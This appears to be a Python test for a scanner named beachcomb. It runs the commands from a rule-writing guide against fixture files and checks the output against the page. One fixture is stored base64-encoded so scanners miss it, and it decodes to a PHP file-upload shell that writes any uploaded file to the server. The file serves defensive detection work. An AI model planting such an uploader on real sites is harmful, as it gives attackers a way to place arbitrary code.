# SPDX-License-Identifier: Apache-2.0
"""The first section of docs/writing-rules.md, run as it is written: its files
are written, its commands are run, and what they say is compared. Lines of
`...` are left out there, and times differ."""
import base64
import os
import re
import shlex
import subprocess

import harness

PAGE = os.path.join(harness.ROOT, "docs", "writing-rules.md")
SECTION = "## From one file to a tested rule"
# An uploader of ours, which no scanner shall find in the repository.
FOUND = base64.b64decode(
    "PGZvcm0gbWV0aG9kPXBvc3QgZW5jdHlwZT1tdWx0aXBhcnQvZm9ybS1kYXRhPjxp"
    "bnB1dCB0eXBlPWZpbGUgbmFtZT1mPjxpbnB1dCB0eXBlPXN1Ym1pdD48L2Zvcm0+"
    "Cjw/cGhwIGVjaG8gZ2V0Y3dkKCk7IGlmICgkX0ZJTEVTKSB7IGNvcHkoJF9GSUxF"
    "U1snZiddWyd0bXBfbmFtZSddLCAkX0ZJTEVTWydmJ11bJ25hbWUnXSk7IH0K")
CLEAN = """<?php
require_once 'common.php';
$title = 'Page {0}';
if (isset($_POST['name'])) {{ save_name($_POST['name'], {0}); }}
echo '<form method=post><input name=name></form>';
"""


def blocks(page):
    """(the word before it that names a file, if there is one, its lines)"""
    section = page[page.index(SECTION):]
    section = section[:section.index("\n## ")]
    text = ""
    for part in re.split(r"\n\n", section):
        if not part.startswith("    "):
            text = part
            continue
        name = re.search(r"`([\w/]+\.\w+)`:$", text)
        yield (name.group(1) if name else None,
               [line[4:] for line in part.splitlines()])


def pattern(lines):
    """What an output has to match."""
    text = "".join(".*\n" if line.strip() == "..." else
                   re.escape(line) + "\n" for line in lines)
    text = re.sub(r"(\\ )*\d+\\\.\d\\ ms", r" *[0-9.]+ ms", text)
    return re.compile(text, re.S)


class WritingRules(harness.TestCase):
    def setUp(self):
        super().setUp()
        self.write("found.php", FOUND)
        variant = FOUND.replace(b"name=f", b"name=up")
        variant = variant.replace(b"'f'", b"'up'")
        variant = variant.replace(b"<form ", b"<form action=? ")
        self.write("variant.php", variant.replace(b"echo getcwd(); ", b""))
        for i in range(30):
            self.write(f"clean/{i}.php", CLEAN.format(i))

    def run_command(self, command, expected):
        words = shlex.split(command)
        self.assertEqual(words.pop(0), "beachcomb")
        done = subprocess.run(
            [harness.PROGRAM, *words], cwd=self.dir, env=harness.ENVIRONMENT,
            stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT, timeout=100, check=False)
        output = done.stdout.decode().replace("\n\n", "\n")
        self.assertTrue(pattern(expected).fullmatch(output),
                        f"$ {command}\n{output}")

    def test_the_page_says_what_the_program_says(self):
        with open(PAGE, encoding="utf-8") as file:
            page = file.read()
        commands = 0
        for name, lines in blocks(page):
            if name:
                self.write(name, "\n".join(lines) + "\n")
                continue
            self.assertTrue(lines[0].startswith("$ "), lines[0])
            for call in "\n".join(lines).split("\n$ "):
                command, *expected = call.removeprefix("$ ").split("\n")
                self.run_command(command, expected)
                commands += 1
        self.assertGreater(commands, 5)


if __name__ == "__main__":
    harness.main()
